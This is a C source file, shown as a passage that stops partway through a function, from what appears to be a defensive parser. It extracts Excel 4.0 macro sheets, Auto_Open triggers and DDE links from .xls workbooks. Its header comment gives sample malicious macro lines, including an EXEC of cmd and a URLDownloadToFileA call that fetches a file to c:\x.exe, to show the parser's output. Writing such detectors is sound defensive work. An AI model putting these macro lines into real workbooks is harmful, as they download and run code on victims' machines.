/*
 * xlm.c - Excel 4.0 (XLM) macro sheets in BIFF8 workbooks (the "Workbook" stream of an .xls),
 * and the hook ole2.c calls for every stream it emits (fmt_office_stream).
 *
 *   Workbook stream = records (u16 type, u16 length, data), globals first:
 *     BOF 0x0809 (vers 0x0600 = BIFF8) ... BOUNDSHEET8 0x0085 (offset, visibility, type, name)
 *     SUPBOOK 0x01AE / EXTERNNAME 0x0023 / EXTERNSHEET 0x0017 (3-D and DDE references)
 *     NAME 0x0018 (defined names; built-in 0x01 = Auto_Open) ... SST 0x00FC (+ CONTINUE 0x003C)
 *     FILEPASS 0x002F (encrypted: nothing after it is decoded) ... EOF 0x000A
 *   then one substream per sheet, BOF ... EOF, at the offset its BOUNDSHEET8 gives.
 *
 * For each macro sheet (BOUNDSHEET8 dt = 1, or a substream whose BOF says dt = 0x0040) the child
 * "XLM/<sheet name>" is text, one line per cell:
 *     ' XLM macro sheet "Macro1" (very hidden)
 *     ' Auto_Open -> Macro1!$A$1
 *     $A$1 =EXEC("cmd /c calc")
 *     $A$2 =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://...","c:\x.exe",0,0)
 *     $B$1 "text of a LABEL/LABELSST cell"        $C$1 1.5 (NUMBER/RK)
 *     $A$5 value "cached string result (STRING)"
 * FORMULA parsed expressions (Rgce) are rendered infix from their Ptg tokens: constants (str,
 * int, num, bool, err, missing arg), references (ref/area/refN/areaN/3-D/errors), names
 * (ptgName, ptgNameX: DDE links print as server|'topic'!item), operators, ptgAttr sum, and
 * functions (ptgFunc/ptgFuncVar, command equivalents; unknown ids as FUNC_<n> / CMD_<n>;
 * user-defined calls as name(args)). Tokens that cannot be rendered (ptgExtend, a stack
 * underflow) end the formula with " <?>" and a parse-error note.
 * Notes on the .xls: "xlm: macro sheet "Macro1" (very hidden)", "xlm: sheet "S" (hidden)",
 * "xlm: Auto_Open -> Macro1!$A$1" (built-in Auto_Open/Auto_Close/Auto_Activate names and names
 * starting with auto_open/auto_close in any case), "xlm: workbook encrypted", parse errors.
 * DDE links (SUPBOOK whose path is server 0x03 topic) are emitted through fmt_dde_emit():
 * "DDE/<n>" with the text "server|'topic'!item".
 *
 * Limits: 4M records for the globals and 4M for all sheets together (sheets sharing an offset
 * are decoded once), 1,024 sheets, 16,384 names/XTIs/external names, 1M shared
 * strings in a 16 MB pool, 8 KB of text per formula, 64 stack entries; the sheet text is charged
 * with fmt_buf_add (object and input limits). Not decoded: BIFF5/BIFF7 ("Book" streams are only
 * noted), encrypted workbooks, shared formulas' bodies (ptgExp prints SHARED(cell)), array
 * constants, BIFF12 (.xlsb).
 */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "formats/formats.h"

#define MAX_RECORDS (1u << 22)
#define MAX_SHEETS 1024
#define MAX_NAMES 16384
#define MAX_XTI 16384
#define MAX_SUPBOOKS 1024
#define MAX_EXTNAMES 16384
#define MAX_SST (1u << 20)
#define MAX_SST_BYTES (16u << 20)
#define MAX_SST_SEGS 65536
#define MAX_TEXT 8192            /* bytes of one rendered formula / string */
#define MAX_STACK 64

static uint16_t rd16(const uint8_t *p) { return (uint16_t)(p[0] | p[1] << 8); }
static uint32_t rd32(const uint8_t *p)
{
    return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

/* ------------------------------------------------------------------ bounded strings */

typedef fmt_str xs;

static int xs_add(xs *s, const char *d, size_t n) { return fmt_str_add(s, d, n, MAX_TEXT); }

static int xs_str(xs *s, const char *z) { return xs_add(s, z, strlen(z)); }

static int xs_fmt(xs *s, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int xs_fmt(xs *s, const char *fmt, ...)
{
    char b[128];
    va_list ap;
    va_start(ap, fmt);
    int r = vsnprintf(b, sizeof b, fmt, ap);
    va_end(ap);
    if (r < 0)
        return KS_OK;
    return xs_add(s, b, (size_t)r < sizeof b ? (size_t)r : sizeof b - 1);
}

static void xs_free(xs *s) { fmt_str_free(s); }

/* One UTF-16 code unit or Latin-1 byte to UTF-8 (surrogates paired by the caller). */
static size_t utf8_put(uint32_t c, char *o)
{
    if (c < 0x80) {
        o[0] = (char)c;
        return 1;
    }
    if (c < 0x800) {
        o[0] = (char)(0xC0 | c >> 6);
        o[1] = (char)(0x80 | (c & 63));
        return 2;
    }
    if (c < 0x10000) {
        o[0] = (char)(0xE0 | c >> 12);
        o[1] = (char)(0x80 | ((c >> 6) & 63));
        o[2] = (char)(0x80 | (c & 63));
        return 3;
    }
    o[0] = (char)(0xF0 | c >> 18);
    o[1] = (char)(0x80 | ((c >> 12) & 63));
    o[2] = (char)(0x80 | ((c >> 6) & 63));
    o[3] = (char)(0x80 | (c & 63));
    return 4;
}

/* Append cch characters at p (1 byte each, or UTF-16LE when high) as UTF-8. The caller has
 * checked that the bytes are there. NUL characters are dropped. */
static int add_chars(xs *s, const uint8_t *p, size_t cch, int high)
{
    char o[4];
    for (size_t i = 0; i < cch && s->n < MAX_TEXT; i++) {
        uint32_t c = high ? rd16(p + 2 * i) : p[i];
        if (high && c >= 0xD800 && c < 0xDC00 && i + 1 < cch) {
            uint32_t lo = rd16(p + 2 * i + 2);
            if (lo >= 0xDC00 && lo < 0xE000) {
                c = 0x10000 + ((c - 0xD800) << 10) + (lo - 0xDC00);
                i++;
            }
        }
        if (c == 0)
            continue;
        int rc = xs_add(s, o, utf8_put(c, o));
        if (rc != KS_OK)
            return rc;
    }
    return KS_OK;
}

/* ------------------------------------------------------------------ function tables (MS-XLS
 * 2.5.198.17 Ftab, 2.5.198.4 Cetab): names, and the argument count of fixed-arity functions
 * (-1: variable, or unknown to this table) */

typedef struct fdef {
    const char *name;
    signed char argc;
} fdef;

static const fdef ftab[] = {
    [0] = {"COUNT", -1}, [1] = {"IF", -1}, [2] = {"ISNA", 1}, [3] = {"ISERROR", 1},
    [4] = {"SUM", -1}, [5] = {"AVERAGE", -1}, [6] = {"MIN", -1}, [7] = {"MAX", -1},
    [8] = {"ROW", -1}, [9] = {"COLUMN", -1}, [10] = {"NA", 0}, [11] = {"NPV", -1},
    [12] = {"STDEV", -1}, [13] = {"DOLLAR", -1}, [14] = {"FIXED", -1}, [15] = {"SIN", 1},
    [16] = {"COS", 1}, [17] = {"TAN", 1}, [18] = {"ATAN", 1}, [19] = {"PI", 0},
    [20] = {"SQRT", 1}, [21] = {"EXP", 1}, [22] = {"LN", 1}, [23] = {"LOG10", 1},
    [24] = {"ABS", 1}, [25] = {"INT", 1}, [26] = {"SIGN", 1}, [27] = {"ROUND", 2},
    [28] = {"LOOKUP", -1}, [29] = {"INDEX", -1}, [30] = {"REPT", 2}, [31] = {"MID", 3},
    [32] = {"LEN", 1}, [33] = {"VALUE", 1}, [34] = {"TRUE", 0}, [35] = {"FALSE", 0},
    [36] = {"AND", -1}, [37] = {"OR", -1}, [38] = {"NOT", 1}, [39] = {"MOD", 2},
    [48] = {"TEXT", 2}, [53] = {"GOTO", 1}, [54] = {"HALT", -1}, [55] = {"RETURN", -1},
    [63] = {"RAND", 0}, [64] = {"MATCH", -1}, [65] = {"DATE", 3}, [66] = {"TIME", 3},
    [67] = {"DAY", 1}, [68] = {"MONTH", 1}, [69] = {"YEAR", 1}, [70] = {"WEEKDAY", -1},
    [71] = {"HOUR", 1}, [72] = {"MINUTE", 1}, [73] = {"SECOND", 1}, [74] = {"NOW", 0},
    [75] = {"AREAS", 1}, [76] = {"ROWS", 1}, [77] = {"COLUMNS", 1}, [78] = {"OFFSET", -1},
    [79] = {"ABSREF", 2}, [80] = {"RELREF", 2}, [81] = {"ARGUMENT", -1}, [82] = {"SEARCH", -1},
    [83] = {"TRANSPOSE", 1}, [84] = {"ERROR", -1}, [85] = {"STEP", 0}, [86] = {"TYPE", 1},
    [87] = {"ECHO", -1}, [88] = {"SET.NAME", -1}, [89] = {"CALLER", 0}, [90] = {"DEREF", 1},
    [91] = {"WINDOWS", -1}, [93] = {"DOCUMENTS", -1}, [94] = {"ACTIVE.CELL", 0},
    [95] = {"SELECTION", 0}, [96] = {"RESULT", -1}, [97] = {"ATAN2", 2}, [98] = {"ASIN", 1},
    [99] = {"ACOS", 1}, [100] = {"CHOOSE", -1}, [101] = {"HLOOKUP", -1},
    [102] = {"VLOOKUP", -1}, [104] = {"INPUT", -1}, [105] = {"ISREF", 1},
    [106] = {"GET.FORMULA", 1}, [107] = {"GET.NAME", -1}, [108] = {"SET.VALUE", 2},
    [109] = {"LOG", -1}, [110] = {"EXEC", -1}, [111] = {"CHAR", 1}, [112] = {"LOWER", 1},
    [113] = {"UPPER", 1}, [114] = {"PROPER", 1}, [115] = {"LEFT", -1}, [116] = {"RIGHT", -1},
    [117] = {"EXACT", 2}, [118] = {"TRIM", 1}, [119] = {"REPLACE", 4},
    [120] = {"SUBSTITUTE", -1}, [121] = {"CODE", 1}, [122] = {"NAMES", -1},
    [123] = {"DIRECTORY", -1}, [124] = {"FIND", -1}, [125] = {"CELL", -1}, [126] = {"ISERR", 1},
    [127] = {"ISTEXT", 1}, [128] = {"ISNUMBER", 1}, [129] = {"ISBLANK", 1}, [130] = {"T", 1},
    [131] = {"N", 1}, [132] = {"FOPEN", -1}, [133] = {"FCLOSE", 1}, [134] = {"FSIZE", 1},
    [135] = {"FREADLN", 1}, [136] = {"FREAD", 2}, [137] = {"FWRITELN", 2},
    [138] = {"FWRITE", 2}, [139] = {"FPOS", -1}, [140] = {"DATEVALUE", 1},
    [141] = {"TIMEVALUE", 1}, [145] = {"GET.DEF", -1}, [146] = {"REFTEXT", -1},
    [147] = {"TEXTREF", -1}, [148] = {"INDIRECT", -1}, [149] = {"REGISTER", -1},
    [150] = {"CALL", -1}, [162] = {"CLEAN", 1}, [166] = {"FILES", -1}, [169] = {"COUNTA", -1},
    [170] = {"CANCEL.KEY", -1}, [171] = {"FOR", -1}, [172] = {"WHILE", -1},
    [173] = {"BREAK", 0}, [174] = {"NEXT", 0}, [175] = {"INITIATE", 2}, [176] = {"REQUEST", 2},
    [177] = {"POKE", 3}, [178] = {"EXECUTE", 2}, [179] = {"TERMINATE", 1},
    [183] = {"PRODUCT", -1}, [184] = {"FACT", 1}, [185] = {"GET.CELL", -1},
    [186] = {"GET.WORKSPACE", 1}, [187] = {"GET.WINDOW", -1}, [188] = {"GET.DOCUMENT", -1},
    [190] = {"ISNONTEXT", 1}, [197] = {"TRUNC", -1}, [198] = {"ISLOGICAL", 1},
    [201] = {"UNREGISTER", -1}, [221] = {"TODAY", 0}, [225] = {"END.IF", 0},
    [236] = {"CREATE.OBJECT", -1}, [237] = {"VOLATILE", -1}, [244] = {"INFO", 1},
    [246] = {"GET.OBJECT", -1}, [248] = {"PAUSE", -1}, [251] = {"RESUME", -1},
    [257] = {"EVALUATE", 1}, [262] = {"APP.TITLE", -1}, [263] = {"WINDOW.TITLE", -1},
    [267] = {"REGISTER.ID", -1}, [268] = {"GET.WORKBOOK", -1}, [336] = {"CONCATENATE", -1},
    [337] = {"POWER", 2}, [344] = {"SUBTOTAL", -1}, [345] = {"SUMIF", -1}, [346] = {"COUNTIF", 2},
};

static const char *const cetab[] = {
    [0] = "BEEP", [1] = "OPEN", [2] = "OPEN.LINKS", [3] = "CLOSE.ALL", [4] = "SAVE",
    [5] = "SAVE.AS", [6] = "FILE.DELETE", [7] = "PAGE.SETUP", [8] = "PRINT", [10] = "QUIT",
    [11] = "NEW.WINDOW", [16] = "CLOSE", [17] = "RUN", [26] = "FONT", [27] = "DISPLAY",
    [28] = "PROTECT.DOCUMENT", [31] = "CALCULATE.NOW", [32] = "CALCULATION", [49] = "CUT",
    [50] = "COPY", [51] = "PASTE", [52] = "CLEAR", [55] = "INSERT", [61] = "DEFINE.NAME",
    [62] = "CREATE.NAMES", [63] = "FORMULA.GOTO", [64] = "FORMULA.FIND", [93] = "HIDE",
    [94] = "UNHIDE", [95] = "WORKSPACE", [96] = "FORMULA", [97] = "FORMULA.FILL",
    [98] = "FORMULA.ARRAY", [103] = "ACTIVATE", [109] = "SELECT", [110] = "DELETE.NAME",
    [118] = "ALERT", [119] = "NEW", [122] = "MESSAGE", [125] = "APP.ACTIVATE",
    [131] = "SEND.KEYS", [138] = "ON.WINDOW", [140] = "DISABLE.INPUT", [141] = "ECHO",
    [144] = "FILE.CLOSE", [145] = "SAVE.WORKBOOK", [148] = "ON.TIME", [149] = "WAIT",
    [159] = "SET.UPDATE.STATUS", [168] = "ON.KEY", [169] = "APP.RESTORE",
    [172] = "APP.MINIMIZE", [173] = "APP.MAXIMIZE", [188] = "OPEN.MAIL", [189] = "SEND.MAIL",
};

static const char *const builtin_names[] = {
    "Consolidate_Area", "Auto_Open", "Auto_Close", "Extract", "Database", "Criteria",
    "Print_Area", "Print_Titles", "Recorder", "Data_Form", "Auto_Activate", "Auto_Deactivate",
    "Sheet_Title", "_FilterDatabase"};

/* ------------------------------------------------------------------ workbook state */

typedef struct sheet {
    char name[128];
    uint32_t off;
    uint8_t state, dt;
} sheet;

typedef struct lname {
    char name[128];
    uint16_t flags;
    const uint8_t *rgce;     /* into the stream */
    uint16_t cce;
} lname;

typedef struct xti {
    uint16_t sb;
    int16_t first;
} xti;

typedef struct supbook {
    char server[128], topic[256];
    int dde, self;
    uint32_t first_ext, next_ext;   /* its EXTERNNAMEs: en[first_ext .. next_ext) */
} supbook;

typedef struct extname {
    char name[128];
} extname;

typedef struct wb {
    fmt_sink *k;
    const uint8_t *d;
    size_t n;
    sheet *sh;
    uint32_t nsh;
    lname *nm;
    uint32_t nnm;
    xti *xt;
    uint32_t nxt;
    supbook *sb;
    uint32_t nsb;
    extname *en;
    uint32_t nen;
    uint32_t *sst;           /* offsets into pool, +1 (0: absent) */
    uint32_t nsst;
    size_t pool_n;           /* the strings, NUL-separated, in poolp */
    char *poolp;
    size_t pool_cap;
    uint32_t sst_segs[MAX_SST_SEGS][2];
    uint32_t nseg;
    int bad_formula;         /* one note per sheet */
    uint32_t budget;         /* records left for all sheet walks together */
} wb;

static void copy_name(char *dst, size_t cap, const xs *s)
{
    size_t l = s->n < cap - 1 ? s->n : cap - 1;
    if (l)
        memcpy(dst, s->p, l);
    dst[l] = 0;
}

/* ShortXLUnicodeString-like: cch chars at p (flag byte already read), bounded by end. */
static int read_chars(const uint8_t *p, const uint8_t *end, size_t cch, int high, char *dst,
                      size_t cap)
{
    size_t avail = (size_t)(end - p) / (high ? 2 : 1);
    if (cch > avail)
        cch = avail;
    xs s = {0};
    int rc = add_chars(&s, p, cch, high);
    if (rc == KS_OK)
        copy_name(dst, cap, &s);
    else
        dst[0] = 0;
    xs_free(&s);
    return rc;
}

static void col_name(unsigned col, char *out)
{
    char t[8];
    int n = 0;
    col &= 0x3FFF;
    do {
        t[n++] = (char)('A' + col % 26);
        col = col / 26;
    } while (col-- > 0 && n < 7);
    for (int i = 0; i < n; i++)
        out[i] = t[n - 1 - i];
    out[n] = 0;
}

/* Cell reference from BIFF8 row and column words (column word carries the relative flags). */
static int put_ref(xs *s, uint16_t rw, uint16_t cw)
{
    char c[8];
    col_name(cw & 0x3FFF, c);
    return xs_fmt(s, "%s%s%s%u", (cw & 0x8000) ? "" : "$", c, (cw & 0x4000) ? "" : "$",
                  (unsigned)rw + 1);
}

static int put_cell(xs *s, uint16_t rw, uint16_t col)
{
    char c[8];
    col_name(col, c);
    return xs_fmt(s, "$%s$%u", c, (unsigned)rw + 1);
}

static const char *sheet_of_xti(const wb *w, uint16_t ixti)
{
    if (ixti >= w->nxt)
        return NULL;
    const xti *x = &w->xt[ixti];
    if (x->sb < w->nsb && !w->sb[x->sb].self)
        return NULL;
    if (x->first >= 0 && (uint32_t)x->first < w->nsh)
        return w->sh[x->first].name;
    return NULL;
}

static int put_sheet(xs *s, const wb *w, uint16_t ixti)
{
    const char *sn = sheet_of_xti(w, ixti);
    if (sn)
        return xs_fmt(s, "%.120s!", sn);
    return xs_fmt(s, "[%u]!", (unsigned)ixti);
}

/* ------------------------------------------------------------------ Rgce -> text */

typedef struct stk {
    xs e[MAX_STACK];
    int sp;
} stk;

static void stk_free(stk *t)
{
    for (int i = 0; i < MAX_STACK; i++)
        xs_free(&t->e[i]);
    t->sp = 0;
}

/* Push an empty entry; returns it or NULL on overflow. */
static xs *push(stk *t)
{
    if (t->sp >= MAX_STACK)
        return NULL;
    xs *e = &t->e[t->sp++];
    e->n = 0;
    if (e->p)
        e->p[0] = 0;
    return e;
}

static int binop(stk *t, const char *op)
{
    if (t->sp < 2)
        return KS_EFORMAT;
    xs *a = &t->e[t->sp - 2], *b = &t->e[t->sp - 1];
    int rc = xs_str(a, op);
    if (rc == KS_OK)
        rc = xs_add(a, b->p ? b->p : "", b->n);
    t->sp--;
    return rc;
}

/* Replace the top argc entries by name(args). */
static int call(stk *t, const char *name, int argc)
{
    if (argc > t->sp)
        return KS_EFORMAT;
    xs r = {0};
    int rc = xs_str(&r, name);
    if (rc == KS_OK)
        rc = xs_str(&r, "(");
    for (int i = t->sp - argc; i < t->sp && rc == KS_OK; i++) {
        if (i > t->sp - argc)
            rc = xs_str(&r, ",");
        if (rc == KS_OK)
            rc = xs_add(&r, t->e[i].p ? t->e[i].p : "", t->e[i].n);
    }
    if (rc == KS_OK)
        rc = xs_str(&r, ")");
    t->sp -= argc;
    xs *e = push(t);
    if (rc == KS_OK && e) {
        xs_free(e);
        *e = r;
        return KS_OK;
    }
    xs_free(&r);
    return rc == KS_OK ? KS_EFORMAT : rc;
}

static int quoted(xs *s, const uint8_t *p, size_t cch, int high)
{
    xs raw = {0};
    int rc = add_chars(&raw, p, cch, high);
    if (rc == KS_OK)
        rc = xs_str(s, "\"");
    for (size_t i = 0; i < raw.n && rc == KS_OK; i++)
        rc = raw.p[i] == '"' ? xs_str(s, "\"\"") : xs_add(s, raw.p + i, 1);
    if (rc == KS_OK)
        rc = xs_str(s, "\"");
    xs_free(&raw);
    return rc;
}

static const char *err_text(uint8_t e)
{
    switch (e) {
    case 0x00: return "#NULL!";
    case 0x07: return "#DIV/0!";
    case 0x0F: return "#VALUE!";
    case 0x17: return "#REF!";
    case 0x1D: return "#NAME?";
    case 0x24: return "#NUM!";
    case 0x2A: return "#N/A";
    default: return "#ERR?";
    }
}

static void name_text(const wb *w, uint32_t idx, char *out, size_t cap)
{
    if (idx >= 1 && idx <= w->nnm)
        snprintf(out, cap, "%s", w->nm[idx - 1].name);
    else
        snprintf(out, cap, "NAME_%u", (unsigned)idx);
}

static int put_namex(xs *s, const wb *w, uint16_t ixti, uint32_t idx)
{
    if (ixti < w->nxt && w->xt[ixti].sb < w->nsb) {
        const supbook *b = &w->sb[w->xt[ixti].sb];
        const char *item = "";
        if (idx >= 1 && b->first_ext + idx - 1 < b->next_ext)
            item = w->en[b->first_ext + idx - 1].name;
        if (b->dde)
            return xs_fmt(s, "%.100s|'%.100s'!%.100s", b->server, b->topic, item);
        if (*item)
            return xs_fmt(s, "%.100s", item);
    }
    return xs_fmt(s, "EXTERNNAME_%u_%u", (unsigned)ixti, (unsigned)idx);
}

/* Render cce bytes of Rgce into out (infix, without the leading '='). Returns KS_OK,
 * KS_EFORMAT (partly rendered, " <?>" appended) or KS_ENOMEM. */
static int render(const wb *w, const uint8_t *p, size_t cce, xs *out)
{
    stk t;
    memset(&t, 0, sizeof t);
    size_t i = 0;
    int rc = KS_OK;
    char buf[160];
#define NEED(m)                  \
    do {                         \
        if (cce - i < (m)) {     \
            rc = KS_EFORMAT;     \
            goto done;           \
        }                        \
    } while (0)
#define PUSH(e)                  \
    do {                         \
        if (!((e) = push(&t))) { \
            rc = KS_EFORMAT;     \
            goto done;           \
        }                        \
    } while (0)
    for (int steps = 0; i < cce && steps < 65536 && rc == KS_OK; steps++) {
        uint8_t ptg = p[i++];
        uint8_t base = ptg >= 0x20 ? (uint8_t)((ptg & 0x1F) | 0x20) : ptg;
        xs *e;
        static const char *const ops[] = {NULL, NULL, NULL, "+", "-", "*", "/", "^", "&", "<",
                                          "<=", "=", ">=", ">", "<>", " ", ",", ":"};
        switch (base) {
        case 0x01: case 0x02:   /* ptgExp, ptgTbl */
            NEED(4);
            PUSH(e);
            rc = xs_str(e, base == 1 ? "SHARED(" : "TABLE(");
            if (rc == KS_OK)
                rc = put_cell(e, rd16(p + i), rd16(p + i + 2));
            if (rc == KS_OK)
                rc = xs_str(e, ")");
            i += 4;
            break;
        case 0x03: case 0x04: case 0x05: case 0x06: case 0x07: case 0x08: case 0x09:
        case 0x0A: case 0x0B: case 0x0C: case 0x0D: case 0x0E: case 0x0F: case 0x10: case 0x11:
            rc = binop(&t, ops[base]);
            break;
        case 0x12: case 0x13: case 0x14: case 0x15: {   /* uplus, uminus, percent, paren */
            if (t.sp < 1) {
                rc = KS_EFORMAT;
                break;
            }
            xs r = {0};
            xs *a = &t.e[t.sp - 1];
            rc = xs_str(&r, base == 0x12 ? "+" : base == 0x13 ? "-" : base == 0x15 ? "(" : "");
            if (rc == KS_OK)
                rc = xs_add(&r, a->p ? a->p : "", a->n);
            if (rc == KS_OK)
                rc = xs_str(&r, base == 0x14 ? "%" : base == 0x15 ? ")" : "");
            xs_free(a);
            *a = r;
            break;
        }
        case 0x16:   /* missing argument */
            PUSH(e);
            break;
        case 0x17: { /* ptgStr: cch u8, flags u8, chars */
            NEED(2);
            size_t cch = p[i];
            int high = p[i + 1] & 1;
            i += 2;
            NEED(cch * (high ? 2 : 1));
            PUSH(e);
            rc = quoted(e, p + i, cch, high);
            i += cch * (high ? 2 : 1);
            break;
        }
        case 0x19: { /* ptgAttr */
            NEED(3);
            uint8_t f = p[i];
            uint16_t v = rd16(p + i + 1);
            i += 3;
            if (f & 0x04) {   /* choose: v+1 offsets follow */
                NEED(((size_t)v + 1) * 2);
                i += ((size_t)v + 1) * 2;
            }
            if (f & 0x10)     /* sum of one argument */
                rc = call(&t, "SUM", 1);
            break;
        }
        case 0x1C:
            NEED(1);
            PUSH(e);
            rc = xs_str(e, err_text(p[i++]));
            break;
        case 0x1D:
            NEED(1);
            PUSH(e);
            rc = xs_str(e, p[i++] ? "TRUE" : "FALSE");
            break;
        case 0x1E:
            NEED(2);
            PUSH(e);
            rc = xs_fmt(e, "%u", (unsigned)rd16(p + i));
            i += 2;
            break;
        case 0x1F: {
            NEED(8);
            double v;
            uint64_t bits = (uint64_t)rd32(p + i) | (uint64_t)rd32(p + i + 4) << 32;
            memcpy(&v, &bits, sizeof v);
            PUSH(e);
            rc = xs_fmt(e, "%.15g", v);
            i += 8;
            break;
        }
        case 0x20:   /* ptgArray: values live after the Rgce */
            NEED(7);
            PUSH(e);
            rc = xs_str(e, "{array}");
            i += 7;
            break;
        case 0x21: { /* ptgFunc: fixed argument count */
            NEED(2);
            uint16_t id = rd16(p + i) & 0x7FFF;
            i += 2;
            int argc = -1;
            const char *nm = NULL;
            if (id < sizeof ftab / sizeof ftab[0] && ftab[id].name) {
                nm = ftab[id].name;
                argc = ftab[id].argc;
            }
            if (argc < 0)   /* arity unknown here: one argument if there is one */
                argc = t.sp > 0 ? 1 : 0;
            if (!nm) {
                snprintf(buf, sizeof buf, "FUNC_%u", (unsigned)id);
                nm = buf;
            }
            rc = call(&t, nm, argc);
            break;
        }
        case 0x22: { /* ptgFuncVar: argc u8, tab u16 (bit 15: command equivalent) */
            NEED(3);
            int argc = p[i] & 0x7F;
            uint16_t tab = rd16(p + i + 1);
            i += 3;
            uint16_t id = tab & 0x7FFF;
            if (!(tab & 0x8000) && id == 255) {   /* user-defined: the first argument names it */
                if (argc < 1 || argc > t.sp) {
                    rc = KS_EFORMAT;
                    break;
                }
                xs fn = t.e[t.sp - argc];
                snprintf(buf, sizeof buf, "%.150s", fn.p ? fn.p : "");
                /* drop the name entry: shift the arguments down by one */
                xs tmp = t.e[t.sp - argc];
                for (int q = t.sp - argc; q < t.sp - 1; q++)
                    t.e[q] = t.e[q + 1];
                t.e[t.sp - 1] = tmp;
                t.sp--;
                rc = call(&t, buf, argc - 1);
                break;
            }
            const char *nm = NULL;
            if (tab & 0x8000) {
                if (id < sizeof cetab / sizeof cetab[0])
                    nm = cetab[id];
                if (!nm) {
                    snprintf(buf, sizeof buf, "CMD_%u", (unsigned)id);
                    nm = buf;
                }
            } else {
                if (id < sizeof ftab / sizeof ftab[0])
                    nm = ftab[id].name;
                if (!nm) {
                    snprintf(buf, sizeof buf, "FUNC_%u", (unsigned)id);
                    nm = buf;
                }
            }
            rc = call(&t, nm, argc);
            break;
        }
        case 0x23:   /* ptgName: u32 index */
            NEED(4);
            name_text(w, rd32(p + i), buf, sizeof buf);
            PUSH(e);
            rc = xs_str(e, buf);
            i += 4;
            break;
        case 0x24:   /* ptgRef */
            NEED(4);
            PUSH(e);
            rc = put_ref(e, rd16(p + i), rd16(p + i + 2));
            i += 4;
            break;
        case 0x25:   /* ptgArea */
            NEED(8);
            PUSH(e);
            rc = put_ref(e, rd16(p + i), rd16(p + i + 4));
            if (rc == KS_OK)
                rc = xs_str(e, ":");
            if (rc == KS_OK)
                rc = put_ref(e, rd16(p + i + 2), rd16(p + i + 6));
            i += 8;
            break;
        case 0x26: case 0x27: case 0x28:   /* ptgMemArea/MemErr/MemNoMem: prefix a sub-expr */
            NEED(6);
            i += 6;
            break;
        case 0x29: case 0x2E: case 0x2F:   /* ptgMemFunc, MemAreaN, MemNoMemN */
            NEED(2);
            i += 2;
            break;
        case 0x2A: case 0x2B:   /* ptgRefErr, ptgAreaErr */
            NEED(base == 0x2A ? 4 : 8);
            PUSH(e);
            rc = xs_str(e, "#REF!");
            i += base == 0x2A ? 4 : 8;
            break;
        case 0x2C: { /* ptgRefN: relative offsets */
            NEED(4);
            uint16_t cw = rd16(p + i + 2);
            PUSH(e);
            rc = xs_fmt(e, "R[%d]C[%d]", (cw & 0x4000) ? (int)(int16_t)rd16(p + i) : (int)rd16(p + i),
                        (cw & 0x8000) ? (int)(int8_t)(cw & 0xFF) : (int)(cw & 0x3FFF));
            i += 4;
            break;
        }
        case 0x2D:
            NEED(8);
            PUSH(e);
            rc = xs_str(e, "R[]C[]:R[]C[]");
            i += 8;
            break;
        case 0x39:   /* ptgNameX: ixti u16, index u32 */
            NEED(6);
            PUSH(e);
            rc = put_namex(e, w, rd16(p + i), rd32(p + i + 2));
            i += 6;
            break;
        case 0x3A:   /* ptgRef3d */
            NEED(6);
            PUSH(e);
            rc = put_sheet(e, w, rd16(p + i));
            if (rc == KS_OK)
                rc = put_ref(e, rd16(p + i + 2), rd16(p + i + 4));
            i += 6;
            break;
        case 0x3B:   /* ptgArea3d */
            NEED(10);
            PUSH(e);
            rc = put_sheet(e, w, rd16(p + i));
            if (rc == KS_OK)
                rc = put_ref(e, rd16(p + i + 2), rd16(p + i + 6));
            if (rc == KS_OK)
                rc = xs_str(e, ":");
            if (rc == KS_OK)
                rc = put_ref(e, rd16(p + i + 4), rd16(p + i + 8));
            i += 10;
            break;
        case 0x3C: case 0x3D:
            NEED(base == 0x3C ? 6 : 10);
            PUSH(e);
            rc = xs_str(e, "#REF!");
            i += base == 0x3C ? 6 : 10;
            break;
        default:     /* ptgExtend and undefined tokens: stop */
            rc = KS_EFORMAT;
            break;
        }
    }
done:
#undef NEED
#undef PUSH
    if (rc == KS_ENOMEM) {
        stk_free(&t);
        return rc;
    }
    int r2 = KS_OK;
    for (int q = 0; q < t.sp && r2 == KS_OK; q++) {
        if (q)
            r2 = xs_str(out, " ");
        if (r2 == KS_OK)
            r2 = xs_add(out, t.e[q].p ? t.e[q].p : "", t.e[q].n);
    }
    if (r2 == KS_OK && (rc != KS_OK || t.sp > 1))
        r2 = xs_str(out, " <?>");
    stk_free(&t);
    if (r2 != KS_OK)
        return r2;
    return (rc != KS_OK || t.sp > 1) ? KS_EFORMAT : KS_OK;
}

/* ------------------------------------------------------------------ globals */

static int add_sheet(wb *w, const uint8_t *r, uint16_t len)
{
    if (len < 8 || w->nsh >= MAX_SHEETS)
        return KS_OK;
    sheet *s = &w->sh[w->nsh++];
    s->off = rd32(r);
    s->state = r[4] & 3;
    s->dt = r[5];
    int rc = read_chars(r + 8, r + len, r[6], r[7] & 1, s->name, sizeof s->name);
    if (rc == KS_OK && !s->name[0])
        snprintf(s->name, sizeof s->name, "Sheet%u", (unsigned)w->nsh);
    for (char *c = s->name; *c; c++)
        if (*c == '/' || *c == '>')
            *c = '_';
    return rc;
}

static int add_name(wb *w, const uint8_t *r, uint16_t len)
{
    if (len < 15 || w->nnm >= MAX_NAMES)
        return KS_OK;
    lname *m = &w->nm[w->nnm++];
    m->flags = rd16(r);
    size_t cch = r[3];
    uint16_t cce = rd16(r + 4);
    int high = r[14] & 1;
    const uint8_t *np = r + 15, *end = r + len;
    size_t nb = cch * (high ? 2 : 1);
    if (nb > (size_t)(end - np))
        nb = (size_t)(end - np);
    if ((m->flags & 0x20) && cch >= 1) {   /* built-in: one character code */
        uint32_t code = high && nb >= 2 ? rd16(np) : np[0];
        if (code < sizeof builtin_names / sizeof builtin_names[0])
            snprintf(m->name, sizeof m->name, "%s", builtin_names[code]);
        else
            snprintf(m->name, sizeof m->name, "BUILTIN_%u", (unsigned)code);
    } else {
        int rc = read_chars(np, end, cch, high, m->name, sizeof m->name);
        if (rc != KS_OK)
            return rc;
    }
    const uint8_t *fp = np + nb;
    m->rgce = fp;
    m->cce = (size_t)(end - fp) < cce ? (uint16_t)(end - fp) : cce;
    return KS_OK;
}

static int add_supbook(wb *w, const uint8_t *r, uint16_t len)
{
    if (len < 4 || w->nsb >= MAX_SUPBOOKS)
        return KS_OK;
    supbook *b = &w->sb[w->nsb++];
    memset(b, 0, sizeof *b);
    b->first_ext = b->next_ext = w->nen;
    uint16_t cch = rd16(r + 2);
